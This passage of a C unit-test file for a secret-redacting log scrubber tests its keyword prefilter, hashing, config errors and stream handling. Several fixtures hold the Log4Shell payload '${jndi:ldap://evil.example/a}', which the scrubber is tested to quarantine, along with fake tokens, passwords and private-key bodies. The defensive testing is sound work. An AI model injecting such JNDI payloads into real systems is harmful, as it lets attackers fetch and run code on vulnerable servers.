/* test_core: unit and property tests of the prefilter, SHA-256, config errors and stream framing. */
/* SPDX-License-Identifier: Apache-2.0 */
#include "scrub.h"
#include "scrub_ruleset_int.h"
#include "scrub_buf.h"
#include "scrub_prefilter.h"
#include "scrub_sha256.h"
#include "ut.h"

#include <stdio.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* ---- prefilter ------------------------------------------------------------ */

UT_TEST(prefilter_basic)
{
    scrub_prefilter_t *pf = scrub_prefilter_new();
    scrub_pf_scratch_t *sc;
    uint64_t bits[1] = {0};
    const char *text = "xx GHP_abc then Bearer and he";

    UT_CHECK(scrub_prefilter_add(pf, "ghp_", 4, 0) == 0);
    UT_CHECK(scrub_prefilter_add(pf, "bearer", 6, 1) == 0);
    UT_CHECK(scrub_prefilter_add(pf, "hers", 4, 2) == 0);
    UT_CHECK(scrub_prefilter_add(pf, "he", 2, 3) == 0);
    UT_CHECK(scrub_prefilter_add(pf, "a\nb", 3, 4) == SCRUB_EINVAL);
    UT_CHECK(scrub_prefilter_build(pf) == 0);
    sc = scrub_prefilter_scratch_new(pf);
    UT_CHECK(sc != NULL);
    /* "GHP_" ends at offset 6 (case-insensitive). */
    UT_CHECK_INT(scrub_prefilter_find(pf, sc, (const uint8_t *)text, 0, strlen(text)), 6);
    UT_CHECK_INT(scrub_prefilter_collect(pf, sc, (const uint8_t *)text, strlen(text), bits), 4);
    UT_CHECK(bits[0] == ((1ULL << 0) | (1ULL << 1) | (1ULL << 3)));
    UT_CHECK_INT(scrub_prefilter_find(pf, sc, (const uint8_t *)"nothing", 0, 7), 7);
    if (strcmp(scrub_prefilter_engine_name(pf), "vectorscan") == 0) {
        /* no scratch: the conservative answers, never "no keyword" */
        bits[0] = 0;
        UT_CHECK_INT(scrub_prefilter_find(pf, NULL, (const uint8_t *)"nothing", 2, 7), 2);
        scrub_prefilter_collect(pf, NULL, (const uint8_t *)"nothing", 7, bits);
        UT_CHECK(bits[0] == 0xf);
    }
    scrub_prefilter_scratch_destroy(sc);
    scrub_prefilter_destroy(pf);
}

/* Random keywords against a naive search: the automaton never misses one. */
UT_TEST(prefilter_matches_naive)
{
    unsigned seed = 12345;
    int round;

    for (round = 0; round < 50; round++) {
        scrub_prefilter_t *pf = scrub_prefilter_new();
        scrub_pf_scratch_t *sc;
        char kws[8][6];
        char text[400];
        int i, k;
        uint64_t bits[1] = {0}, want = 0;
        for (k = 0; k < 8; k++) {
            int len = 3 + (int)(rand_r(&seed) % 3);
            for (i = 0; i < len; i++) {
                kws[k][i] = (char)('a' + rand_r(&seed) % 4);
            }
            kws[k][len] = '\0';
            UT_CHECK(scrub_prefilter_add(pf, kws[k], (size_t)len, (uint32_t)k) == 0);
        }
        UT_CHECK(scrub_prefilter_build(pf) == 0);
        sc = scrub_prefilter_scratch_new(pf);
        for (i = 0; i < (int)sizeof(text) - 1; i++) {
            int r = (int)(rand_r(&seed) % 9);
            text[i] = r < 4 ? (char)('a' + r) : r < 8 ? (char)('A' + r - 4) : '\n';
        }
        text[sizeof(text) - 1] = '\0';
        for (k = 0; k < 8; k++) {
            for (i = 0; text[i] != '\0'; i++) {
                if (strncasecmp(text + i, kws[k], strlen(kws[k])) == 0) {
                    want |= 1ULL << k;
                }
            }
        }
        scrub_prefilter_collect(pf, sc, (const uint8_t *)text, strlen(text), bits);
        UT_CHECK(bits[0] == want);
        scrub_prefilter_scratch_destroy(sc);
        scrub_prefilter_destroy(pf);
    }
}

/* ---- sha256 ------------------------------------------------------------------ */

UT_TEST(sha256_vectors)
{
    uint8_t d[32];
    char hex[65];
    scrub_sha256_t c;

    scrub_sha256_init(&c);
    scrub_sha256_update(&c, "abc", 3);
    scrub_sha256_final(&c, d);
    scrub_hex(d, 64, hex);
    UT_CHECK(strcmp(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad") == 0);
    /* RFC 4231 test case 2 */
    scrub_hmac_sha256((const uint8_t *)"Jefe", 4,
                      (const uint8_t *)"what do ya want for nothing?", 28, d);
    scrub_hex(d, 64, hex);
    UT_CHECK(strcmp(hex, "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843") == 0);
}

/* ---- config errors ------------------------------------------------------------- */

static int load_text(const char *yaml, char *err, size_t n, scrub_ruleset_t **rs)
{
    char path[] = "/tmp/logscrub-ut-XXXXXX";
    int fd = mkstemp(path);
    FILE *fp;
    int rc;

    if (fd < 0) {
        return -100;
    }
    fp = fdopen(fd, "w");
    fputs(yaml, fp);
    fclose(fp);
    rc = scrub_ruleset_load(path, NULL, rs, err, n);
    remove(path);
    return rc;
}

UT_TEST(config_errors)
{
    static const struct {
        const char *yaml;   /* config text */
        int rc;             /* expected code */
        const char *msg;    /* expected part of the message */
    } cases[] = {
        {"rules:\n  - id: a\n    regex: 'x'\n    action: zap\n", SCRUB_ECONFIG,
         ":4:13: rule 'a': unknown action 'zap'"},
        {"rules:\n  - id: a\n    regex: 'x'\n  - id: a\n    regex: 'y'\n", SCRUB_ECONFIG,
         "rule 'a': duplicate rule id"},
        {"rules:\n  - regex: 'x'\n", SCRUB_ECONFIG, ":2:5: rule without an 'id'"},
        {"rules:\n  - id: a\n    regex: '(x)'\n    secret_group: 2\n", SCRUB_ECONFIG,
         "secret_group 2 does not exist"},
        {"rules:\n  - id: a\n    regex: 'x'\n    validate: [nope]\n", SCRUB_ECONFIG,
         "rule 'a':"},
        {"limits:\n  max_record: 10\n", SCRUB_ECONFIG, "must be between 64"},
        {"bogus: 1\n", SCRUB_ECONFIG, ":1:1: unknown key 'bogus'"},
        {"include: [does-not-exist.yaml]\n", SCRUB_ECONFIG, "cannot open included file"},
        {"rules:\n  - id: a\n    regex: '[z-a]'\n", SCRUB_EREGEX, "at offset 3"},
    };
    size_t i;

    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char err[512] = "";
        scrub_ruleset_t *rs = NULL;
        int rc = load_text(cases[i].yaml, err, sizeof(err), &rs);
        UT_CHECK_INT(rc, cases[i].rc);
        if (strstr(err, cases[i].msg) == NULL) {
            ut_failed++;
            fprintf(stderr, "  FAIL case %zu: message '%s' lacks '%s'\n", i, err, cases[i].msg);
        }
        UT_CHECK(rs == NULL);
    }
}

/* ---- stream --------------------------------------------------------------------- */

typedef struct capture {
    scrub_buf_t out;    /* clean bytes */
    scrub_buf_t quar;   /* quarantined bytes, concatenated */
} capture_t;

static int cap_clean(void *ctx, const uint8_t *p, size_t n)
{
    return scrub_buf_append(&((capture_t *)ctx)->out, p, n);
}

static int cap_quar(void *ctx, const scrub_origin_t *o, const scrub_result_t *res,
                    const uint8_t *rec, size_t len)
{
    (void)o;
    (void)res;
    return scrub_buf_append(&((capture_t *)ctx)->quar, rec, len);
}

/* Run input through a stream in chunks of `chunk` bytes (0 = one feed). */
static void run_stream(scrub_ruleset_t *rs, const uint8_t *in, size_t n, size_t chunk,
                       capture_t *cap, scrub_counts_t *counts)
{
    scrub_worker_t *w = scrub_worker_new(rs);
    scrub_stats_t *st = scrub_stats_new(rs);
    scrub_sink_ops_t ops = {cap_clean, cap_quar, NULL, cap, NULL, NULL};
    scrub_stream_t *s = scrub_stream_new(w, &ops, st, "t");
    size_t pos = 0;

    scrub_buf_init(&cap->out, 0);
    scrub_buf_init(&cap->quar, 0);
    while (pos < n) {
        size_t k = chunk == 0 || n - pos < chunk ? n - pos : chunk;
        UT_CHECK(scrub_stream_feed(s, in + pos, k) == 0);
        pos += k;
    }
    UT_CHECK(scrub_stream_finish(s) == 0);
    *counts = *scrub_stats_counts(st);
    scrub_stream_destroy(s);
    scrub_stats_destroy(st);
    scrub_worker_destroy(w);
}

/* Release what run_stream captured. */
static void capture_free(capture_t *c)
{
    scrub_buf_free(&c->out);
    scrub_buf_free(&c->quar);
}

/* 1 when the clean output captured in c holds the string w. */
static int out_holds(const capture_t *c, const char *w)
{
    return memmem(c->out.data, c->out.len, w, strlen(w)) != NULL;
}

static scrub_ruleset_t *default_rules(void)
{
    char err[512];
    scrub_ruleset_t *rs = NULL;

    if (scrub_ruleset_load("patterns/default.yaml", NULL, &rs, err, sizeof(err)) != 0) {
        fprintf(stderr, "  cannot load patterns/default.yaml: %s\n", err);
    }
    return rs;
}

/* Property: random input without keyword hits comes out byte-identical, whatever
 * the chunking, and records are counted exactly. */
UT_TEST(stream_clean_input_identity)
{
    scrub_ruleset_t *rs = default_rules();
    unsigned seed = 4242;
    int round, clean_rounds = 0;

    UT_CHECK(rs != NULL);
    if (rs == NULL) {
        return;
    }
    for (round = 0; round < 200; round++) {
        size_t n = (size_t)(rand_r(&seed) % 5000), i, lines = 0;
        uint8_t *in = malloc(n + 1);
        capture_t a, b;
        scrub_counts_t ca, cb;
        for (i = 0; i < n; i++) {
            unsigned r = (unsigned)rand_r(&seed) % 100;
            in[i] = r < 6 ? '\n' : r < 8 ? '\r' : r < 9 ? 0 : r < 12 ? (uint8_t)(0x80 + r)
                                                         : (uint8_t)(' ' + rand_r(&seed) % 95);
            lines += in[i] == '\n';
        }
        run_stream(rs, in, n, 0, &a, &ca);
        run_stream(rs, in, n, 1 + (size_t)(rand_r(&seed) % 64), &b, &cb);
        /* chunking never changes the output */
        UT_CHECK(a.out.len == b.out.len && memcmp(a.out.data, b.out.data, a.out.len) == 0);
        UT_CHECK(ca.records_in == cb.records_in);
        UT_CHECK(ca.records_in == ca.clean + ca.quarantined + ca.dropped);
        UT_CHECK_INT(ca.records_in, lines + (n > 0 && in[n - 1] != '\n'));
        if (ca.findings == 0 && ca.failed_closed == 0) {
            clean_rounds++;
            UT_CHECK(a.out.len == n && (n == 0 || memcmp(a.out.data, in, n) == 0));
        }
        capture_free(&a);
        capture_free(&b);
        free(in);
    }
    UT_CHECK(clean_rounds > 150); /* the property was really exercised */
    scrub_ruleset_unref(rs);
}

/* A clean sink that keeps references (clean_ref) until flush, as the CLI's
 * writer does: copies and references are materialised in order at flush. */
typedef struct refcap {
    capture_t c;              /* first: cap_quar takes it; c.out is the materialised output */
    const uint8_t *ref[4096]; /* pending pieces: a reference, or NULL for a copy */
    size_t len[4096];
    scrub_buf_t copies;       /* the bytes of pending copies, in order */
    size_t n;
    int refs;                 /* references taken in all */
} refcap_t;

static int ref_clean(void *ctx, const uint8_t *p, size_t n)
{
    refcap_t *r = ctx;

    UT_CHECK(r->n < 4096);
    r->ref[r->n] = NULL;
    r->len[r->n++] = n;
    return scrub_buf_append(&r->copies, p, n);
}

static int ref_clean_ref(void *ctx, const uint8_t *p, size_t n)
{
    refcap_t *r = ctx;

    UT_CHECK(r->n < 4096);
    r->ref[r->n] = p;
    r->len[r->n++] = n;
    r->refs++;
    return 0;
}

static int ref_flush(void *ctx)
{
    refcap_t *r = ctx;
    size_t i, c = 0;

    for (i = 0; i < r->n; i++) {
        const uint8_t *p = r->ref[i] != NULL ? r->ref[i] : r->copies.data + c;
        c += r->ref[i] != NULL ? 0 : r->len[i];
        if (scrub_buf_append(&r->c.out, p, r->len[i]) != 0) {
            return -1;
        }
    }
    r->n = 0;
    scrub_buf_reset(&r->copies);
    return 0;
}

/* Property: with a clean_ref sink, flushed after each feed and the fed buffer
 * overwritten right after (as the CLI reuses its read buffer), the output is
 * exactly what copying sinks get: the stream references only the caller's
 * bytes (never its own carry of a line split across feeds), and only until
 * the flush. Secret lines make redactions and quarantines interleave. */
UT_TEST(stream_clean_ref_until_flush)
{
    static const char *const lines[] = {
        "plain log line with nothing in it", "password=Tr0ub4dor&3xyzzyQ7 in a line",
        "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlX3NpZ25hdA",
        "${jndi:ldap://evil.example/a} attempt", "another quiet line", ""};
    scrub_ruleset_t *rs = default_rules();
    unsigned seed = 99;
    int round, refs = 0;

    UT_CHECK(rs != NULL);
    if (rs == NULL) {
        return;
    }
    for (round = 0; round < 60; round++) {
        scrub_buf_t in;
        capture_t a;
        scrub_counts_t ca;
        refcap_t *r = calloc(1, sizeof(*r));
        scrub_worker_t *w = scrub_worker_new(rs);
        scrub_stats_t *st = scrub_stats_new(rs);
        scrub_sink_ops_t ops = {ref_clean, cap_quar, NULL, NULL, ref_flush, ref_clean_ref};
        scrub_stream_t *s;
        size_t pos = 0, i, chunk = 1 + (size_t)(rand_r(&seed) % 3000);
        uint8_t *feed = malloc(3000);

        scrub_buf_init(&in, 0);
        for (i = 0; i < 400; i++) {
            const char *l = lines[rand_r(&seed) % 6];
            scrub_buf_append(&in, (const uint8_t *)l, strlen(l));
            scrub_buf_append(&in, (const uint8_t *)"\n", 1);
        }
        ops.ctx = r;
        s = scrub_stream_new(w, &ops, st, "t");
        while (pos < in.len) {
            size_t k = in.len - pos < chunk ? in.len - pos : chunk;
            memcpy(feed, in.data + pos, k);
            UT_CHECK(scrub_stream_feed(s, feed, k) == 0);
            UT_CHECK(ref_flush(r) == 0);
            memset(feed, 0xAA, k); /* the next read reuses the buffer */
            pos += k;
        }
        UT_CHECK(scrub_stream_finish(s) == 0);
        UT_CHECK(ref_flush(r) == 0);
        run_stream(rs, in.data, in.len, 0, &a, &ca);
        UT_CHECK(r->c.out.len == a.out.len && memcmp(r->c.out.data, a.out.data, a.out.len) == 0);
        UT_CHECK(r->c.quar.len == a.quar.len &&
                 memcmp(r->c.quar.data, a.quar.data, a.quar.len) == 0);
        refs += r->refs;
        scrub_stream_destroy(s);
        scrub_stats_destroy(st);
        scrub_worker_destroy(w);
        scrub_buf_free(&r->c.out);
        scrub_buf_free(&r->c.quar);
        scrub_buf_free(&r->copies);
        free(r);
        free(feed);
        capture_free(&a);
        scrub_buf_free(&in);
    }
    UT_CHECK(refs > 100); /* references were really taken */
    scrub_ruleset_unref(rs);
}

/* Secrets split across feed boundaries are found the same as in one buffer. */
/* Allow lists are matched as merged alternations (scrub_ruleset.c merge_list):
 * every member still cancels exactly its own values, the members that cannot be
 * merged (back-reference, verb) included, and duplicate group names fall back to
 * one pattern per member. */
UT_TEST(allow_list_merged)
{
    static const char yaml[] =
        "allow:\n"
        "  - '^aaa'\n"
        "  - '^(?i:bbb)$'\n"
        "  - 'ccc$'\n"
        "  - 'ddd'\n"
        "  - '(e)\\1e'\n"
        "  - '(*COMMIT)zz9'\n"
        "rules:\n"
        "  - id: t\n"
        "    regex: 'tok=(\\w+)'\n"
        "    secret_group: 1\n"
        "    keywords: [tok=]\n"
        "    allow: ['(?<n>q1)', '(?<n>q2)', '^rr']\n";
    static const struct {
        const char *value;
        int allowed;
    } cases[] = {
        {"aaa123", 1}, {"xaaa", 0}, {"BbB", 1}, {"bbbx", 0}, {"xxccc", 1}, {"ccc1", 0},
        {"1ddd2", 1}, {"eee", 1}, {"efe", 0}, {"zz9", 1}, {"zz8", 0}, {"xq1x", 1},
        {"xq2x", 1}, {"q3", 0}, {"rr1", 1}, {"xrr", 0},
    };
    char err[512] = "";
    scrub_ruleset_t *rs = NULL;
    size_t i;

    UT_CHECK_INT(load_text(yaml, err, sizeof(err), &rs), 0);
    if (rs == NULL) {
        fprintf(stderr, "  %s\n", err);
        return;
    }
    /* global: ^aaa|^bbb merged, ccc$|ddd merged, the back-reference and the verb alone;
     * rule: the duplicate names do not merge, ^rr has no partner */
    UT_CHECK_INT(rs->nallow, 4);
    UT_CHECK_INT(rs->rules[0].nallow, 3);
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char line[64];
        capture_t cap;
        scrub_counts_t c;
        int n = snprintf(line, sizeof(line), "tok=%s\n", cases[i].value);
        run_stream(rs, (const uint8_t *)line, (size_t)n, 0, &cap, &c);
        if ((cap.out.len == (size_t)n && memcmp(cap.out.data, line, (size_t)n) == 0) !=
            cases[i].allowed) {
            ut_failed++;
            fprintf(stderr, "  FAIL allow case %s: expected %s\n", cases[i].value,
                    cases[i].allowed ? "allowed" : "redacted");
        }
        ut_checks++;
        capture_free(&cap);
    }
    scrub_ruleset_unref(rs);
}

UT_TEST(stream_boundary_splits)
{
    scrub_ruleset_t *rs = default_rules();
    const char *in = "a\nAuthorization: Bearer 0VrbBGI09QYNdaKy8isWydfh\r\nx password=S3cr3t!Pass"
                     "\n${jndi:ldap://evil.example/a}\nkey -----BEGIN RSA PRIVATE KEY-----\n"
                     "MIIEowIBAAKCAQEA7bq8abcdefghijklmnopqrstuvwxyz0123456789ABCDEF\r\n"
                     "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/\n"
                     "-----END RSA PRIVATE KEY-----\nend";
    size_t n = strlen(in), chunk;
    capture_t ref;
    scrub_counts_t cref;

    if (rs == NULL) {
        UT_CHECK(rs != NULL);
        return;
    }
    run_stream(rs, (const uint8_t *)in, n, 0, &ref, &cref);
    UT_CHECK(ref.out.len > 0 && memmem(ref.out.data, ref.out.len, "0VrbBGI", 7) == NULL);
    UT_CHECK(!out_holds(&ref, "S3cr3t"));
    UT_CHECK(ref.quar.len > 0 && memmem(ref.quar.data, ref.quar.len, "jndi", 4) != NULL);
    UT_CHECK(!out_holds(&ref, "MIIEow"));
    UT_CHECK(!out_holds(&ref, "QWERTY"));
    UT_CHECK_INT(cref.records_in, 9);
    UT_CHECK_INT(cref.quarantined, 1);
    for (chunk = 1; chunk <= n; chunk++) {
        capture_t c;
        scrub_counts_t cc;
        run_stream(rs, (const uint8_t *)in, n, chunk, &c, &cc);
        UT_CHECK(c.out.len == ref.out.len && memcmp(c.out.data, ref.out.data, c.out.len) == 0);
        UT_CHECK(c.quar.len == ref.quar.len);
        UT_CHECK(cc.records_in == cref.records_in && cc.findings == cref.findings);
        capture_free(&c);
    }
    capture_free(&ref);
    scrub_ruleset_unref(rs);
}

/* A private key's body is followed from the last BEGIN marker of its line:
 * a certificate or a complete key before it on the same line used to hide
 * it (the body lines went out as they were). */
UT_TEST(stream_pem_after_other_marker)
{
    static const char *const heads[] = {
        "cert -----BEGIN CERTIFICATE----- MIIBx then -----BEGIN RSA PRIVATE KEY-----\n",
        "k -----BEGIN EC PRIVATE KEY----- MHcCAQEEIBkg4LVWM9nuwNSk3yByxZpYRTBnVJk5pUs8AqZz0xYzoAoGCC"
        "qGSM49 -----END EC PRIVATE KEY----- and -----BEGIN RSA PRIVATE KEY-----\n",
        "only -----BEGIN RSA PRIVATE KEY-----\n",
    };
    const char *body = "MIIEowIBAAKCAQEA7bq8abcdefghijklmnopqrstuvwxyz0123456789ABCDEF\n"
                       "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/\n"
                       "-----END RSA PRIVATE KEY-----\nafter\n";
    scrub_ruleset_t *rs = default_rules();
    size_t h;

    UT_CHECK(rs != NULL);
    for (h = 0; rs != NULL && h < 3; h++) {
        scrub_buf_t in;
        size_t chunk;
        scrub_buf_init(&in, 0);
        UT_CHECK(scrub_buf_puts(&in, heads[h]) == 0 && scrub_buf_puts(&in, body) == 0);
        for (chunk = 0; chunk < 40; chunk += 13) {
            capture_t c;
            scrub_counts_t cc;
            run_stream(rs, in.data, in.len, chunk, &c, &cc);
            UT_CHECK(!out_holds(&c, "MIIEow"));
            UT_CHECK(!out_holds(&c, "QWERTY"));
            UT_CHECK(out_holds(&c, "\nafter\n"));
            UT_CHECK_INT(cc.records_in, 5);
            capture_free(&c);
        }
        scrub_buf_free(&in);
    }
    scrub_ruleset_unref(rs);
}

/* One feed with many more candidate lines than the stream lists at a time
 * (its spans array holds 4096): the same output, quarantine and counts as
 * feeding a few lines at a time, with a private key whose BEGIN line is the
 * last of a batch. Before, the overflow rescanned the rest of the buffer for
 * every line (3x slower on all-dirty input). */
UT_TEST(stream_many_candidate_lines)
{
    static const char *const lines[] = {
        "GET /cb?state=x&id_token=eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0."
        "c2lnbmF0dXJlX3BhcnRfb2ZfdGhlX3Rva2Vu HTTP/1.1\n",
        "Authorization: Bearer 0VrbBGI09QYNdaKy8isWydfh\n",
        "login failed: password incorrect for user bob\n",
        "x password=S3cr3t!Pass\n",
        "${jndi:ldap://evil.example/a}\n",
        "api_key=changeme\n",
    };
    scrub_ruleset_t *rs = default_rules();
    scrub_buf_t in;
    capture_t one, few;
    scrub_counts_t c1, c2;
    size_t i, nlines = 0;

    UT_CHECK(rs != NULL);
    if (rs == NULL) {
        return;
    }
    scrub_buf_init(&in, 0);
    for (i = 0; i < 12000; i++) {
        const char *l = lines[(i * 7) % 6];
        if (i == 4095) { /* every line is a candidate: the key starts the last of a batch */
            scrub_buf_puts(&in, "key -----BEGIN RSA PRIVATE KEY-----\n"
                                "MIIEowIBAAKCAQEA7bq8abcdefghijklmnopqrstuvwxyz0123456789ABCDEF\n"
                                "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/\n"
                                "-----END RSA PRIVATE KEY-----\n");
            nlines += 4;
        }
        UT_CHECK(scrub_buf_puts(&in, l) == 0);
        nlines++;
    }
    run_stream(rs, in.data, in.len, 0, &one, &c1);
    run_stream(rs, in.data, in.len, 997, &few, &c2);
    UT_CHECK(one.out.len == few.out.len && memcmp(one.out.data, few.out.data, one.out.len) == 0);
    UT_CHECK(one.quar.len == few.quar.len &&
             memcmp(one.quar.data, few.quar.data, one.quar.len) == 0);
    UT_CHECK_INT(c1.records_in, nlines);
    UT_CHECK(c1.records_in == c2.records_in && c1.findings == c2.findings &&
             c1.redacted == c2.redacted && c1.quarantined == c2.quarantined);
    UT_CHECK_INT(c1.quarantined, 2000); /* every JNDI line */
    UT_CHECK(!out_holds(&one, "0VrbBGI"));
    UT_CHECK(!out_holds(&one, "S3cr3t"));
    UT_CHECK(!out_holds(&one, "QWERTY"));
    UT_CHECK(out_holds(&one, "password incorrect"));
    capture_free(&one);
    capture_free(&few);
    scrub_buf_free(&in);
    scrub_ruleset_unref(rs);
}

/* The decoded view takes the log4j detector's decoding of the same text when
 * it stopped changing within the view's two rounds: with the detector on
 * (it scans every line here: each holds an escape it looks for) and with it
 * disabled (the view decodes by itself) the output, quarantine and counts
 * are the same, for secrets under one to three layers of percent-encoding. */
UT_TEST(decoded_view_shared_with_log4j)
{
    static const char *const trig[] = {" C:\\\\Users\\\\x", " \\u00e9", " ${env:HOME}", " %2524",
                                       " &#x24;{x}", " \\\\u0024{lower:j}"};
    static const char *const body[] = {"password%3DS3cr3tPassw0rd1", "password%253DS3cr3tPassw0rd2",
                                       "password%25253DS3cr3tPassw0rd3",
                                       "Authorization%3A%20Bearer%20Qo16FeSYXsmr02GbP0eh7WF0TLlz",
                                       "Authorization%253A%2520Bearer%2520Qo16FeSYXsmr02GbP0eh7WF0TLlz",
                                       "Authorization%25253A%252520Bearer%252520Qo16FeSYXsmr02GbP0eh7WF0TLl3"};
    char yaml[PATH_MAX + 128], cwd[PATH_MAX], err[512];
    scrub_ruleset_t *all = default_rules(), *nol4j = NULL;
    scrub_buf_t in;
    capture_t a, b;
    scrub_counts_t ca, cb;
    size_t i;

    UT_CHECK(getcwd(cwd, sizeof(cwd)) != NULL);
    snprintf(yaml, sizeof(yaml), "include:\n  - %s/patterns/default.yaml\ndisable:\n  - log4shell-jndi\n",
             cwd);
    UT_CHECK(load_text(yaml, err, sizeof(err), &nol4j) == 0);
    if (all == NULL || nol4j == NULL) {
        scrub_ruleset_unref(all);
        scrub_ruleset_unref(nol4j);
        return;
    }
    scrub_buf_init(&in, 0);
    for (i = 0; i < 600; i++) {
        scrub_buf_printf(&in, "req %zu q=%s%s end\n", i, body[i % 6], trig[(i / 6) % 6]);
    }
    run_stream(all, in.data, in.len, 0, &a, &ca);
    run_stream(nol4j, in.data, in.len, 0, &b, &cb);
    UT_CHECK(a.out.len == b.out.len && memcmp(a.out.data, b.out.data, a.out.len) == 0);
    UT_CHECK(a.quar.len == b.quar.len);
    UT_CHECK(ca.findings == cb.findings && ca.redacted == cb.redacted);
    UT_CHECK_INT(ca.quarantined, 0);
    UT_CHECK(!out_holds(&a, "S3cr3tPassw0rd1")); /* one layer */
    UT_CHECK(!out_holds(&a, "S3cr3tPassw0rd2")); /* two layers */
    UT_CHECK(!out_holds(&a, "Qo16FeSYXsmr02GbP0eh7WF0TLlz"));
    /* three layers: beyond the view's two rounds (the detector decodes them) */
    UT_CHECK(out_holds(&a, "Qo16FeSYXsmr02GbP0eh7WF0TLl3"));
    capture_free(&a);
    capture_free(&b);
    scrub_buf_free(&in);
    scrub_ruleset_unref(all);
    scrub_ruleset_unref(nol4j);
}

/* Quarantine calls of an oversized record: "F3@0:<bytes>" = part FIRST, record 3, offset 0. */
static int log_quar(void *ctx, const scrub_origin_t *o, const scrub_result_t *res,
                    const uint8_t *rec, size_t len)
{
    scrub_buf_t *b = ctx;
    int rc = scrub_buf_printf(b, "%c%llu@%llu:", "WFML"[o->part], (unsigned long long)o->record,
                              (unsigned long long)o->offset);

    (void)res;
    rc = rc ? rc : scrub_buf_append(b, rec, len);
    return rc ? rc : scrub_buf_putc(b, '|');
}

static int log_clean(void *ctx, const uint8_t *p, size_t n)
{
    scrub_buf_t *b = ctx;
    int rc = scrub_buf_puts(b, "C:");

    rc = rc ? rc : scrub_buf_append(b, p, n);
    return rc ? rc : scrub_buf_putc(b, '|');
}

/* An oversized record stays open across pauses until its newline: the late bytes go
 * to the quarantine as further entries of the same record, counted once; a stream
 * started inside one (a restart) quarantines the rest of the line. */
UT_TEST(stream_oversize_pause)
{
    char err[512];
    scrub_ruleset_t *rs = NULL;
    scrub_worker_t *w;
    scrub_stats_t *st;
    scrub_stream_t *s;
    scrub_buf_t log;
    scrub_sink_ops_t ops = {log_clean, log_quar, NULL, &log, NULL, NULL};
    char big[81];
    const scrub_counts_t *c;

    UT_CHECK_INT(load_text("limits:\n  max_record: 64\nrules:\n  - id: k\n    regex: 'sekrit'\n"
                           "    keywords: [sekrit]\n", err, sizeof(err), &rs), 0);
    if (rs == NULL) {
        return;
    }
    memset(big, 'x', 80);
    big[80] = '\0';
    w = scrub_worker_new(rs);
    st = scrub_stats_new(rs);
    scrub_buf_init(&log, 0);
    s = scrub_stream_new(w, &ops, st, "t");
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)"a\n", 2) == 0);
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)big, 80) == 0);
    UT_CHECK(scrub_stream_in_oversize(s));
    UT_CHECK(scrub_stream_pause_oversize(s) == 0);
    UT_CHECK(scrub_stream_pause_oversize(s) == 0); /* already closed: nothing */
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)"late", 4) == 0);
    UT_CHECK(scrub_stream_pause_oversize(s) == 0);
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)" end\nb\n", 7) == 0);
    UT_CHECK(!scrub_stream_in_oversize(s));
    UT_CHECK(scrub_stream_finish(s) == 0);
    UT_CHECK_MEM(log.data, log.len, "C:a\n|F2@2:xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
                                    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx|L2@2:|F2@82:late|L2@82:|"
                                    "F2@86: end\n|L2@86:|C:b\n|");
    c = scrub_stats_counts(st);
    UT_CHECK_INT(c->records_in, 3);
    UT_CHECK_INT(c->quarantined, 1);
    UT_CHECK_INT(c->clean, 2);
    UT_CHECK_INT(c->bytes_in, 2 + 89 + 2);
    scrub_stream_destroy(s);

    /* A restart inside the record: the rest up to the newline is quarantined; a finish
     * with nothing after a pause writes nothing more but still ends and counts it. */
    scrub_buf_reset(&log);
    s = scrub_stream_new(w, &ops, st, "t");
    scrub_stream_enter_oversize(s);
    UT_CHECK(scrub_stream_in_oversize(s));
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)"tail\nc\nmore", 11) == 0);
    UT_CHECK(scrub_stream_finish(s) == 0);
    UT_CHECK_MEM(log.data, log.len, "F1@0:tail\n|L1@0:|C:c\n|C:more|");
    scrub_stream_destroy(s);
    scrub_buf_reset(&log);
    s = scrub_stream_new(w, &ops, st, "t");
    scrub_stream_enter_oversize(s);
    UT_CHECK(scrub_stream_finish(s) == 0);
    UT_CHECK(!scrub_stream_in_oversize(s));
    UT_CHECK_INT(log.len, 0);
    UT_CHECK_INT(c->records_in, 7);
    UT_CHECK_INT(c->quarantined, 3);
    scrub_stream_destroy(s);

    /* Without a quarantine sink a pause writes nothing: one marker when it ends. */
    scrub_buf_reset(&log);
    ops.quarantine = NULL;
    s = scrub_stream_new(w, &ops, st, "t");
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)big, 80) == 0);
    UT_CHECK(scrub_stream_pause_oversize(s) == 0);
    UT_CHECK(scrub_stream_feed(s, (const uint8_t *)"late\r\n", 6) == 0);
    UT_CHECK_MEM(log.data, log.len, "C:[QUARANTINED:oversize]\r\n|");
    scrub_stream_destroy(s);
    scrub_buf_free(&log);
    scrub_stats_destroy(st);
    scrub_worker_destroy(w);
    scrub_ruleset_unref(rs);
}

/* Keywords inside other keywords (the literal planner keeps the shortest and
 * checks the longer ones around its hits, from their offset): both engines
 * select the same rules on every line. */
UT_TEST(prefilter_contained_keywords)
{
    static const char *const kws[] = {"pass", "password", "mypassword", "sword", "x",
                                      "xpassx", "wordpass", "pass", "sswo", "yword"};
    static const char *const lines[] = {
        "a mypassword b\n", "wordpass\n", "xpassx and password\n", "swords\n",
        "my password\n", "mypasswor\n", "ywordpassword\n", "nothing here\n", "x\n",
        "passwordpass xpass sswor\n"};
    scrub_prefilter_t *a = scrub_prefilter_new(), *b = scrub_prefilter_new();
    scrub_pf_scratch_t *sa, *sb;
    char text[512];
    size_t i, n = 0, ka, kb, q;
    scrub_span_t la[32], lb[32];
